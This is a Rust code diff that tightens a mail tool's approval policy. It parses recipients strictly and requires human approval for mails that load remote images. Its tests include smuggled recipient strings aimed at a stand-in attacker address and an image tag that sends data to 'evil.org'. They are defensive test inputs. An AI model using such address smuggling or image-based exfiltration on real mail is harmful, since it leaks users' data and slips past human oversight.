@@ -1,7 +1,8 @@
 //! The policy that decides which mails need a person's approval.
 
-use super::super::prepared::PreparedMail;
+use super::{super::prepared::PreparedMail, remote};
 use crate::config::ConfirmPolicy;
+use tai_proto::names::{Address, Instance};
 
 /// Returns whether the policy requires approval of the mail.
 pub(super) fn applies(
@@ -12,18 +13,32 @@ pub(super) fn applies(
     match policy {
         ConfirmPolicy::Never => false,
         ConfirmPolicy::Always => true,
-        ConfirmPolicy::External => !is_internal(&mail.to, mail.account.as_str(), default_recipient),
+        // A mail to oneself that loads an image tells its server what the image's URL contains.
+        ConfirmPolicy::External => {
+            !is_internal(mail.recipient.as_ref(), &mail.account, default_recipient)
+                || remote::has_any(&mail.parts.html)
+        }
     }
 }
 
-/// Returns whether an address is the default recipient's, or the account's with any instance.
-fn is_internal(to: &str, account: &str, default_recipient: Option<&str>) -> bool {
-    if default_recipient.is_some_and(|user| user.eq_ignore_ascii_case(to)) {
+/// Returns whether a recipient is the default one, or the account with any instance. Text that is
+/// no address (`None`) is external.
+fn is_internal(to: Option<&Address>, account: &Address, default_recipient: Option<&str>) -> bool {
+    let Some(to) = to else { return false };
+    if default_recipient.is_some_and(|user| to.matches(user)) {
         return true;
     }
-    let to = to.to_ascii_lowercase();
-    let instance = to.strip_suffix(&account.to_ascii_lowercase());
-    instance.is_some_and(|instance| instance.is_empty() || instance.ends_with('.'))
+    if account.matches(to.as_str()) {
+        return true;
+    }
+    // The parsed address has one `@`, and the name of an instance contains no dot.
+    let instance = to.as_str().split_once('.').map(|(instance, _)| instance);
+    instance.is_some_and(|instance| {
+        let of_account = Instance::new(instance)
+            .ok()
+            .and_then(|instance| Address::new(format!("{instance}.{account}")).ok());
+        of_account.is_some_and(|address| address.matches(to.as_str()))
+    })
 }
 
 #[cfg(test)]
@@ -32,23 +47,33 @@ mod tests {
 
     #[test]
     fn every_recipient_but_the_default_one_and_the_account_is_external() {
-        let account = "alice@tai.chat";
-        let default_recipient = Some("Me@example.com");
+        let account = Address::new("alice@tai.chat").unwrap();
+        let is_internal = |to: &str| {
+            let to = crate::mail::check::parsed(to);
+            is_internal(to.as_ref(), &account, Some("Me@example.com"))
+        };
         for own in [
             "alice@tai.chat",
             "ALICE@tai.chat",
             "desk.Alice@TAI.chat",
             "me@example.com",
+            "Alice <desk.alice@tai.chat>",
         ] {
-            assert!(is_internal(own, account, default_recipient), "{own}");
+            assert!(is_internal(own), "{own}");
         }
         for other in [
             "malice@tai.chat",
             "bob@tai.chat",
             "alice@tai.chat.example.com",
             "me@example.org",
+            "a.b.alice@tai.chat",
+            ".alice@tai.chat",
+            "attacker@evil.org, x.alice@tai.chat",
+            "<attacker@evil.org>.alice@tai.chat",
+            "me@example.com, attacker@evil.org",
+            "",
         ] {
-            assert!(!is_internal(other, account, default_recipient), "{other}");
+            assert!(!is_internal(other), "{other}");
         }
     }
 
@@ -58,13 +83,15 @@ mod tests {
             prepared("bob@tai.chat", ""),
             prepared("lab.alice@tai.chat", ""),
         );
-        for (policy, to_external, to_internal) in [
-            (ConfirmPolicy::Never, false, false),
-            (ConfirmPolicy::External, true, false),
-            (ConfirmPolicy::Always, true, true),
+        let loading = prepared("lab.alice@tai.chat", "<img src=\"https://evil.org/?d=x\">");
+        for (policy, to_external, to_internal, loads) in [
+            (ConfirmPolicy::Never, false, false, false),
+            (ConfirmPolicy::External, true, false, true),
+            (ConfirmPolicy::Always, true, true, true),
         ] {
             assert_eq!(applies(policy, &external, None), to_external);
             assert_eq!(applies(policy, &internal, None), to_internal);
+            assert_eq!(applies(policy, &loading, None), loads);
         }
     }
 }
